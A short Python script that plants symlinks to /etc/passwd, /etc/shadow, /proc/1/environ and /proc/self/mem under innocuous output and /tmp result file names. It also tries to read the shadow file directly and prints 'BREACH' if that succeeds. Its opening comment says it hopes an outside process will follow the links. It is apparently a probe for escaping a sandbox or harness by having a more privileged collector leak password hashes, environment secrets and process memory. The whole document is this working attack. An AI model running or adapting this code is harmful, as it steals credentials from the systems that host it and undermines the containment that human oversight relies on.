# Links to what must not be read, in the hope that somebody outside follows them.
import os
for number, target in enumerate(("/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/mem")):
    os.symlink(target, f"output{number}")
    os.symlink(target, f"/tmp/result{number}.json")
try:
    print("BREACH", open("output1").read()[:50])
except OSError as error:
    print("denied", error)
